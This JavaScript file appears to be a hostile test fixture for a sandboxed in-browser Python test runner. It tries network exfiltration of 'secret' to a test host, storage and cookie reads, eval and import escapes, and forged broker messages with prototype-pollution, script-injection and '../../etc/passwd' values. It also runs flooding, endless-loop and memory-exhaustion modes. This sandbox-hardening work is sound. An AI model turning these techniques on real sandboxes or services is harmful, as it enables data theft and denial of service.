// A classic script that stands in the place of the whole interpreter: as if learners' code had taken the worker over,
// with every JavaScript name in its reach. The real broker starts it in the real frame. What it is to do comes in the
// first file of the run's request, as JSON: `{ mode, home, stranger, udp }`.
(() => {
  const patience = 2_500;
  const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
  const text = (value) => {
    try {
      return String(value).slice(0, 120);
    } catch {
      return 'something without words';
    }
  };

  /** An absent thing is no success: attacks say so with this. */
  class Absent extends Error {}
  const need = (name) => {
    const thing = name.split('.').reduce((owner, key) => owner?.[key], globalThis);
    if (thing === undefined || thing === null) throw new Absent(name);
    return thing;
  };
  const settle = (start) =>
    new Promise((resolve, reject) => {
      start(resolve, reject);
    });

  /** What each attack asks of the network lies below its own path, so that a hit tells who it was. */
  const attacks = {
    'fetch-home': ({ home }, hit) => fetch(home + hit).then((answer) => answer.status),
    'fetch-stranger': ({ stranger }, hit) => fetch(stranger + hit).then((answer) => answer.status),
    'fetch-no-cors': ({ stranger }, hit) =>
      fetch(stranger + hit, { mode: 'no-cors', keepalive: true, credentials: 'include' }).then((a) => a.type),
    'fetch-post': ({ stranger }, hit) => fetch(stranger + hit, { method: 'POST', body: 'secret' }),
    'fetch-later': ({ stranger }, hit) => need('fetchLater')(stranger + hit, { activateAfter: 0 }),
    'xhr-sync': ({ stranger }, hit) => {
      const request = new (need('XMLHttpRequest'))();
      request.open('GET', stranger + hit, false);
      request.send();
      return request.status;
    },
    'xhr-async': ({ home }, hit) =>
      settle((resolve, reject) => {
        const request = new (need('XMLHttpRequest'))();
        request.onload = () => resolve(request.status);
        request.onerror = () => reject(new Error('error event'));
        request.open('GET', home + hit);
        request.send();
      }),
    websocket: ({ stranger }, hit) =>
      settle((resolve, reject) => {
        const socket = new (need('WebSocket'))(stranger.replace('http', 'ws') + hit);
        socket.onopen = () => resolve('open');
        socket.onclose = () => reject(new Error('closed'));
      }),
    'websocket-stream': ({ stranger }, hit) =>
      new (need('WebSocketStream'))(stranger.replace('http', 'ws') + hit).opened,
    'event-source': ({ stranger }, hit) =>
      settle((resolve, reject) => {
        const source = new (need('EventSource'))(stranger + hit);
        source.onopen = () => resolve('open');
        source.onerror = () => reject(new Error('error event'));
      }),
    webtransport: ({ udp }, hit) => new (need('WebTransport'))(`https://127.0.0.1:${udp}/${hit}`).ready,
    webrtc: async ({ udp }) => {
      const peer = new (need('RTCPeerConnection'))({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
      peer.createDataChannel('leak');
      await peer.setLocalDescription(await peer.createOffer());
      return 'gathering';
    },
    'send-beacon': ({ stranger }, hit) => need('navigator').sendBeacon(stranger + hit, 'secret'),
    'font-face': ({ stranger }, hit) => new (need('FontFace'))('leak', `url(${stranger}${hit})`).load(),
    'wasm-streaming': ({ stranger }, hit) => WebAssembly.compileStreaming(fetch(stranger + hit)),
    'image-bitmap': async ({ stranger }, hit) =>
      createImageBitmap(await (await fetch(stranger + hit)).blob()),
    'import-scripts-stranger': ({ stranger }, hit) =>
      need('importScripts')(scriptUrl(stranger + hit)) ?? 'loaded',
    'import-scripts-home': ({ home }, hit) => need('importScripts')(scriptUrl(home + hit)) ?? 'loaded',
    'import-scripts-blob': () => need('importScripts')(blobOf('self.remote = 1')) ?? 'loaded',
    'import-scripts-data': () =>
      need('importScripts')(scriptUrl('data:text/javascript,self.remote=1')) ?? 'loaded',
    'import-stranger': ({ stranger }, hit) => import(stranger + hit),
    'import-data': () => import('data:text/javascript,export default 1'),
    'import-blob': () =>
      import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
    eval: () => need('eval').call(undefined, '1 + 1'),
    'function-constructor': () => new Function('return 1 + 1')(),
    'async-function-constructor': () => new (async () => {}).constructor('return 1')(),
    'timeout-text': async () => {
      setTimeout('self.remoteTimer = 1');
      await wait(100);
      if (globalThis.remoteTimer === undefined) throw new Error('the text did not run');
      return 'ran';
    },
    'worker-stranger': ({ stranger }, hit) => startsWorker(stranger + hit),
    'worker-home': ({ home }, hit) => startsWorker(home + hit),
    'nested-blob-worker': ({ stranger }, hit) =>
      askNested(
        `fetch(${JSON.stringify(stranger + hit)}).then(() => postMessage('reached'), () => postMessage('refused'))`,
      ),
    'nested-worker-storage': () =>
      askNested(
        "try { indexedDB.open('interleave').onsuccess = () => postMessage('reached') } catch { postMessage('refused') }",
      ),
    'nested-worker-eval': () =>
      askNested("try { eval('1'); postMessage('reached') } catch { postMessage('refused') }"),
    'shared-worker': ({ home }, hit) => text(new (need('SharedWorker'))(home + hit)),
    'service-worker': ({ home }, hit) => need('navigator.serviceWorker').register(home + hit),
    'indexed-db': () =>
      settle((resolve, reject) => {
        const opening = need('indexedDB').open('interleave');
        opening.onsuccess = () => resolve('open');
        opening.onerror = () => reject(opening.error);
      }),
    'indexed-db-list': async () => {
      const names = (await need('indexedDB').databases()).map((one) => one.name);
      if (names.length === 0) throw new Error('an empty list');
      return names.join();
    },
    'cache-storage': async () => {
      const names = await need('caches').keys();
      if (names.length === 0) throw new Error('an empty list');
      return names.join();
    },
    'local-storage': () => need('localStorage').length,
    'session-storage': () => need('sessionStorage').length,
    'cookie-store': async () => JSON.stringify(await need('cookieStore').getAll()),
    'private-file-system': () => need('navigator.storage.getDirectory').call(navigator.storage),
    'storage-buckets': () => need('navigator.storageBuckets').keys(),
    'storage-persist': () => need('navigator.storage.persist').call(navigator.storage),
    'web-locks': () =>
      need('navigator.locks').request('interleave-store', { ifAvailable: true }, () => 'held'),
    'broadcast-channel': async () => {
      const channel = new (need('BroadcastChannel'))('interleave-store');
      const heard = settle((resolve) => {
        channel.onmessage = (event) => resolve(`heard ${text(event.data)}`);
      });
      channel.postMessage({ type: 'draft-saved', slug: 'sample', forged: true });
      return Promise.race([heard, wait(800).then(() => Promise.reject(new Error('nobody answers')))]);
    },
    notification: () => need('Notification').requestPermission(),
    permissions: async () => {
      const { state } = await need('navigator.permissions').query({ name: 'notifications' });
      if (state !== 'granted') throw new Error(state);
      return state;
    },
    usb: () => need('navigator.usb').getDevices(),
    serial: () => need('navigator.serial').getPorts(),
    hid: () => need('navigator.hid').getDevices(),
    gpu: async () => {
      const adapter = await need('navigator.gpu').requestAdapter();
      if (adapter === null) throw new Error('no adapter');
      return 'an adapter';
    },
    'wake-lock': () => need('navigator.wakeLock').request(),
    clipboard: () => need('navigator.clipboard').readText(),
    'location-href': () => {
      need('location').href = 'https://pyodide.invalid/';
      throw new Error('still here');
    },
    'location-replace': () => need('location').replace('https://pyodide.invalid/'),
    'open-window': ({ stranger }, hit) => text(need('open')(stranger + hit)),
    'parent-window': () => text(need('parent.document')),
    document: () => text(need('document.cookie')),
    'default-channel': () => {
      // The broker listens to the private port alone.
      for (const type of ['ended', 'ready', 'run-ended']) {
        self.postMessage({ type, run: 'run-1', interpreter: 1, outcome: { kind: 'reported', report: '{}' } });
      }
      throw new Error('nobody answers');
    },
  };

  /** The names of our policies are open to whoever runs in the worker: addresses are kept away by other walls. */
  const policy = globalThis.trustedTypes?.createPolicy('interleave-interpreter', {
    createScriptURL: (url) => url,
  });
  const scriptUrl = (address) => policy?.createScriptURL(address) ?? address;
  const blobOf = (script) => scriptUrl(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));

  async function startsWorker(address) {
    return settle((resolve, reject) => {
      const worker = new Worker(scriptUrl(address));
      worker.onmessage = () => resolve('it runs');
      worker.onerror = () => reject(new Error('error event'));
    });
  }

  async function askNested(script) {
    const answer = await settle((resolve, reject) => {
      const worker = new Worker(blobOf(script));
      worker.onmessage = (event) => resolve(event.data);
      worker.onerror = () => reject(new Error('the nested worker did not start'));
    });
    if (answer !== 'reached') throw new Error(`nested worker: ${answer}`);
    return answer;
  }

  async function tryAll(site) {
    const outcomes = {};
    await Promise.all(
      Object.entries(attacks).map(async ([id, attack]) => {
        try {
          const answer = await Promise.race([
            Promise.resolve().then(() => attack(site, `hit/js-${id}`)),
            wait(patience).then(() => Promise.reject(new Error('no answer'))),
          ]);
          outcomes[id] = `reached: ${text(answer)}`;
        } catch (error) {
          outcomes[id] =
            error instanceof Absent
              ? `absent: ${error.message}`
              : `refused: ${error?.name}: ${text(error?.message)}`;
        }
      }),
    );
    return outcomes;
  }

  const testId = 'tests/test_sample.py::test_two';
  const capture = (shown = '') => ({ text: shown, total: shown.length, dropped: 0 });
  const planned = (id) => ({ id, name: id, file: 'tests/test_sample.py', line: 1 });
  const passing = (id, stdout = '') => ({
    ...planned(id),
    outcome: 'passed',
    seconds: 0,
    failure: null,
    skipReason: '',
    stdout: capture(stdout),
    stderr: capture(),
    log: capture(),
    warnings: [],
  });
  const report = (ids, changes = {}, stdout = '') => ({
    schema: 1,
    python: '3.14.2',
    pytest: '9.2.0',
    exit: 'finished',
    exitMessage: '',
    seconds: 0,
    planned: ids.map(planned),
    tests: ids.map((id) => passing(id, stdout)),
    collectionErrors: [],
    interruptedAt: [],
    starterUnchanged: false,
    stdout: capture(),
    stderr: capture(),
    warnings: [],
    ...changes,
  });
  const reported = (value) => ({
    kind: 'reported',
    report: typeof value === 'string' ? value : JSON.stringify(value),
    isHeapExhausted: false,
  });
  const honestEnd = () => reported(report([testId]));

  /** Words that the protocol knows and words that it does not, from a worker that means harm. */
  const modes = {
    reach: async (say, site) => say.end(reported(report([testId], {}, JSON.stringify(await tryAll(site))))),
    honest: (say) => say.end(honestEnd()),
    'strange-test': (say) => say.end(reported(report(['tests/test_other.py::test_of_another_challenge']))),
    'unplanned-test': (say) => say.end(reported(report([testId], { planned: [] }))),
    'nothing-planned': (say) => say.end(reported(report([]))),
    'not-json': (say) => say.end(reported('<script>alert(1)</script>')),
    'proto-keys': (say) =>
      say.end(
        reported(
          JSON.stringify(report([testId])).replace(
            '{',
            '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},',
          ),
        ),
      ),
    'deep-json': (say) => say.end(reported('['.repeat(2_000_000))),
    'wrong-types': (say) =>
      say.end({ kind: 'reported', report: { length: 1, slice: 0 }, isHeapExhausted: 'no' }),
    'strange-outcome': (say) => say.end({ kind: 'won', message: 'x', report: 'y', more: 'z'.repeat(1_000) }),
    'no-outcome': (say) => say.end(undefined),
    'fat-outcome': (say) =>
      say.end({ ...honestEnd(), kind: 'died', message: 'x', more: new Uint8Array(200_000_000).fill(1) }),
    'many-tests': (say) => {
      const ids = Array.from({ length: 60_000 }, (_, index) => `${testId}[${index}]`);
      say.end(reported(report(ids)));
    },
    'huge-report': (say) => say.end(reported('x'.repeat(120_000_000))),
    'another-run': (say) => {
      say.post({ type: 'ended', run: 'run-0', outcome: honestEnd() });
      say.post({ type: 'ended', run: 'run-999', outcome: honestEnd() });
      say.end(reported(report([testId], { tests: [] })));
    },
    'two-ends': (say) => {
      say.end(reported(report([testId], { tests: [] })));
      say.end(honestEnd());
    },
    'after-the-end': (say) => {
      say.end(reported(report([testId], { tests: [] })));
      for (let count = 0; count < 1_000; count += 1)
        say.post({ type: 'progressed', run: say.run, event: '{}' });
    },
    'strange-events': (say) => {
      const events = [
        '',
        'null',
        '{"type":"won"}',
        '{"type":"started","id":"tests/test_other.py::test_x"}',
        JSON.stringify({ type: 'finished', test: passing('tests/test_other.py::test_x') }),
        JSON.stringify({ type: 'planned', tests: [planned('../../etc/passwd')] }),
      ];
      for (const event of events) say.post({ type: 'progressed', run: say.run, event });
      say.end(honestEnd());
    },
    'unknown-words': (say) => {
      const words = [
        null,
        1,
        'run-ended',
        [],
        {},
        { type: 'frame-lost' },
        { type: 'installed' },
        new Map([[1, 2]]),
      ];
      for (const word of words) say.post(word);
      say.end(honestEnd());
    },
    'event-that-is-no-text': (say) => {
      const nested = [];
      let deepest = nested;
      for (let count = 0; count < 500; count += 1) {
        const next = [];
        deepest.push(next);
        deepest = next;
      }
      for (const event of [nested, new Array(50_000_000), { length: 1 }, 7, null, undefined]) {
        say.post({ type: 'progressed', run: say.run, event });
      }
      say.end(honestEnd());
    },
    'flood-of-events': (say) => {
      const event = JSON.stringify({ type: 'started', id: testId });
      for (let count = 0; count < 400_000; count += 1) say.post({ type: 'progressed', run: say.run, event });
      say.end(honestEnd());
    },
    'flood-of-large-events': (say) => {
      const event = JSON.stringify({ type: 'finished', test: passing(testId, 'x'.repeat(900_000)) });
      for (let count = 0; count < 300; count += 1) say.post({ type: 'progressed', run: say.run, event });
      say.end(honestEnd());
    },
    'flood-of-steps': (say) => {
      for (let count = 0; count < 200_000; count += 1) {
        say.post({ type: 'stepped', interpreter: 1, step: 'warm-up' });
      }
      say.end(honestEnd());
    },
    'fat-step': (say) => {
      say.post({ type: 'stepped', interpreter: 1, step: 'x'.repeat(200_000_000) });
      say.end(honestEnd());
    },
    'flood-of-ready': (say) => {
      for (let count = 0; count < 200_000; count += 1) {
        say.post({ type: 'ready', interpreter: 1, stackSwitching: true });
      }
      say.end(honestEnd());
    },
    'flood-of-starts': (say) => {
      for (let count = 0; count < 200_000; count += 1) say.post({ type: 'started', run: say.run });
      say.end(honestEnd());
    },
    'flood-of-process-words': (say) => {
      for (let count = 0; count < 100_000; count += 1) {
        say.post({ type: 'process-wanted', pid: count });
        say.post({ type: 'process-died', pid: 'x', message: {} });
      }
      say.end(honestEnd());
    },
    'flood-of-unknown-words': (say) => {
      for (let count = 0; count < 300_000; count += 1) say.post({ type: 'noise', count });
      say.end(honestEnd());
    },
    'flood-of-default-channel': (say) => {
      const noise = 'x'.repeat(1_000);
      for (let count = 0; count < 200_000; count += 1) self.postMessage({ type: 'ended', noise });
      say.end(honestEnd());
    },
    'huge-transfers': (say) => {
      for (let count = 0; count < 20; count += 1) {
        const bytes = new ArrayBuffer(50_000_000);
        say.post({ type: 'noise', bytes }, [bytes]);
      }
      say.end(honestEnd());
    },
    'lost-in-boot-words': (say) => {
      say.post({ type: 'boot-failed', interpreter: 1, message: { toString: 'x' } });
    },
    'port-closed': (say) => say.close(),
    'worker-closed': () => self.close(),
    'throws-flood': () => {
      for (let count = 0; count < 2_000; count += 1) {
        setTimeout(() => {
          throw new Error('x'.repeat(100_000));
        });
      }
    },
    'endless-loop': () => {
      for (;;);
    },
    'endless-microtasks': () => {
      const again = () => Promise.resolve().then(again);
      again();
    },
    'endless-timers': () => {
      const again = () => {
        setTimeout(again);
        setTimeout(again);
      };
      again();
    },
    'heap-of-javascript': () => {
      const hoard = [];
      for (let count = 0; count < 24; count += 1) hoard.push(new Float64Array(8_000_000).fill(count));
      for (;;) hoard[0][0] += 1;
    },
    'nested-workers-that-spin': () => {
      const address = blobOf('for (;;);');
      for (let count = 0; count < 6; count += 1) new Worker(address);
    },
    'shared-cells': (say, _site, boot) => {
      if (boot.control) new Uint8Array(boot.control).fill(255);
      say.end(honestEnd());
    },
    'shared-kernel': (say, _site, boot) => {
      // Everything that processes share, the frame's own half of it too.
      if (boot.processes) new Uint8Array(boot.processes.memory).fill(255);
      say.post({ type: 'process-wanted', pid: 1 });
      say.post({ type: 'process-signalled', pid: 1, signal: 9 });
      say.end(honestEnd());
    },
    'listens-to-neighbours': async (say) => {
      // The next interpreter boots in the same frame, beside this one.
      const channel = new BroadcastChannel('neighbour');
      const heard = [];
      channel.onmessage = (event) => heard.push(event.data);
      channel.postMessage('hello');
      await wait(1_000);
      if (heard.length > 0) say.end(reported(report(['tests/test_other.py::heard'])));
      else say.end(honestEnd());
    },
  };

  if (typeof onmessage === 'undefined') return;
  addEventListener('message', function receive(event) {
    // Without a sandbox, to see that the attacks are worth something: the same attacks, answered at once.
    if (event.data.type === 'bare') {
      removeEventListener('message', receive);
      void tryAll(event.data.site).then((outcomes) => self.postMessage({ outcomes }));
      return;
    }
    if (event.data.type !== 'boot') return;
    removeEventListener('message', receive);
    const boot = event.data;
    const { port } = boot;
    port.onmessage = ({ data }) => {
      if (data.type !== 'run') return;
      const site = JSON.parse(data.request.files[0].text);
      const say = {
        run: data.run,
        post: (message, transfer = []) => port.postMessage(message, transfer),
        end: (outcome) => port.postMessage({ type: 'ended', run: data.run, outcome }),
        close: () => port.close(),
      };
      say.post({ type: 'started', run: data.run });
      Promise.resolve(modes[site.mode](say, site, boot)).catch((error) => {
        say.end({
          kind: 'died',
          message: `the attack itself failed: ${text(error)}`,
          isHeapExhausted: false,
        });
      });
    };
    port.postMessage({ type: 'ready', interpreter: boot.interpreter, stackSwitching: true });
  });
})();
